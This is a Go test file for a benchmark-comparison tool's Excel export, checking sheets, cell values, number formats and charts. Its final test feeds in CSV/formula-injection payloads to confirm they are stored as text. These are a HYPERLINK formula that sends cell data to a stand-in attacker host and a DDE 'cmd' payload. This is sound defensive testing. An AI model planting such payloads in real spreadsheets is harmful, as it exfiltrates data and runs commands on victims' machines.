package xlsx

import (
	"archive/zip"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/servecmp/servecmp/compare"
	"github.com/servecmp/servecmp/internal/testkit/fixture"
	"github.com/servecmp/servecmp/output/present"
)

func TestWorkbookReadBack(t *testing.T) {
	rep := fixture.Report()
	path := filepath.Join(t.TempDir(), "review.xlsx")
	if err := WriteFile(path, rep, Options{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !slices.Equal(got, Sheets) {
		t.Fatalf("sheets %v, want %v", got, Sheets)
	}
	if k, _ := f.GetCellValue("Summary", "A2"); k != "conclusion" {
		t.Errorf("Summary!A2 = %q, want conclusion (the answer first)", k)
	}
	if v, _ := f.GetCellValue("Summary", "B2"); v != present.Conclusion(rep)[0] {
		t.Errorf("Summary!B2 = %q, want the conclusion's first line", v)
	}
	if v, _ := f.GetCellValue("Latency", "A2"); v != "ttft_ms_mean" {
		t.Errorf("Latency!A2 = %q", v)
	}
	// Raw numbers, not text: the A value of ttft mean is the metric's value.
	if v, _ := f.GetCellValue("Latency", "C2", excelize.Options{RawCellValue: true}); v == "" || strings.ContainsAny(v, "ms ") {
		t.Errorf("Latency!C2 raw = %q, want a number", v)
	}
	if v, _ := f.GetCellValue("Throughput", "A2"); v != "output_throughput" {
		t.Errorf("Throughput!A2 = %q", v)
	}
	if v, _ := f.GetCellValue("Regions", "D1"); v != "attention_busy (ms)" {
		t.Errorf("Regions!D1 = %q", v)
	}
	if v, _ := f.GetCellValue("Regions", "D2", excelize.Options{RawCellValue: true}); v != "500" {
		t.Errorf("Regions!D2 = %q, want 500 (ms)", v)
	}
	if v, _ := f.GetCellValue("Sweep", "D5", excelize.Options{RawCellValue: true}); v != "8" {
		t.Errorf("Sweep!D5 = %q, want offered 8", v)
	}
	rows, _ := f.GetRows("Requests")
	if len(rows) != 1+200 {
		t.Errorf("Requests has %d rows, want 201", len(rows))
	}
	for _, s := range Sheets {
		p, err := f.GetPanes(s)
		if err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("sheet %s: header row not frozen (%+v, %v)", s, p, err)
		}
	}
	// Native charts: latency by scale (2), sweep (3) and stacked regions.
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	charts := 0
	for _, zf := range z.File {
		if strings.HasPrefix(zf.Name, "xl/charts/chart") {
			charts++
		}
	}
	if charts != 6 {
		t.Errorf("%d charts, want 6", charts)
	}
}

func TestRegionsNumberFormats(t *testing.T) {
	// Each Regions column carries the format of its unit: milliseconds
	// (window included) as 0.000, coverage as a percentage.
	path := filepath.Join(t.TempDir(), "review.xlsx")
	if err := WriteFile(path, fixture.Report(), Options{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	format := func(col string) string {
		t.Helper()
		id, err := f.GetCellStyle("Regions", col+"2")
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil || st.CustomNumFmt == nil {
			return ""
		}
		return *st.CustomNumFmt
	}
	for col, fmtWant := range map[string]string{"D": "0.000", "I": "0.000", "K": "0.000", "L": "0.0%", "N": "0.000", "R": "0.000"} {
		if got := format(col); got != fmtWant {
			h, _ := f.GetCellValue("Regions", col+"1")
			t.Errorf("Regions column %s (%s): format %q, want %q", col, h, got, fmtWant)
		}
	}
	if g, _ := f.GetCellValue("Shapes", "D2"); g != "64x2x1" {
		t.Errorf("Shapes!D2 grid = %q, want AxBxC like the text report", g)
	}
	if h, _ := f.GetCellValue("Regions", "K1"); h != "window (ms)" {
		t.Errorf("Regions!K1 = %q", h)
	}
	if h, _ := f.GetCellValue("Regions", "L1"); h != "coverage_time (%)" {
		t.Errorf("Regions!L1 = %q", h)
	}
}

// TestRequestsFailedLatencies: a failed request's TTFT and E2E cells are
// empty, not 0.
func TestRequestsFailedLatencies(t *testing.T) {
	rep := fixture.Report()
	rep.RequestsA[0].Records[0].OK = false
	rep.RequestsA[0].Records[0].ErrorClass = "http_500"
	path := filepath.Join(t.TempDir(), "review.xlsx")
	if err := WriteFile(path, rep, Options{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, c := range []string{"G2", "H2", "G3"} {
		v, _ := f.GetCellValue("Requests", c)
		if (c == "G3") == (v == "") {
			t.Errorf("Requests!%s = %q", c, v)
		}
	}
}

// TestWorkbookNoFormulaInjection: texts from outside that start like a
// formula (a model name "=HYPERLINK(...)" a server reported, a warning)
// land in cells as text: no cell of any sheet holds a formula.
func TestWorkbookNoFormulaInjection(t *testing.T) {
	rep := fixture.Report()
	evil := `=HYPERLINK("http://attacker/?"&A1,"click")`
	rep.Differences = append(rep.Differences, compare.Difference{Field: "manifest.engine_version", A: evil, B: "@SUM(1)"})
	rep.Warnings = append(rep.Warnings, "+cmd|' /C calc'!A0")
	path := filepath.Join(t.TempDir(), "review.xlsx")
	if err := WriteFile(path, rep, Options{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := false
	for _, s := range f.GetSheetList() {
		rows, _ := f.GetRows(s)
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(s, cell); formula != "" {
					t.Errorf("%s!%s holds the formula %q", s, cell, formula)
				}
				found = found || v == evil
			}
		}
	}
	if !found {
		t.Error("the hostile text is not in the workbook as text (the test saw nothing)")
	}
}
